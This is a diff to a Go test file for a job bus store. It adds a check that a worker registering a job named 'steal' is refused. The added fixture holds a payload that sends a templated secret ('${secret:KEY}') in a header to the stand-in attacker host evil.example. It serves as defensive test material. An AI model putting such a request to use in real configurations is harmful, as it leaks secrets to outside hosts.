@@ -3,6 +3,7 @@ package busstore
 import (
 	"bytes"
 	"context"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"log/slog"
@@ -161,6 +162,9 @@ func TestWorkerThatLies(t *testing.T) {
 	h := newHouse(t, Config{})
 	w, c, n := h.as(worker), h.as(client), h.as(node)
 	h.must(t, w, register("billing", "billing-1", "charge"))
+	steal := register("billing", "billing-1", "steal")
+	steal.Job.Code.HTTP = new(json.RawMessage(`{"request":[{"url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}]}`))
+	h.refused(t, w, steal, jobs.BadInput)
 	run := jobs.ID{7}
 	in := h.must(t, c, jobs.Create{ID: run, Key: "charge", Args: []byte(`{"a":1}`)}).Instance()
 	if in.ID != run || in.State != jobs.Enqueued || in.Key != "charge" || in.Args != nil {
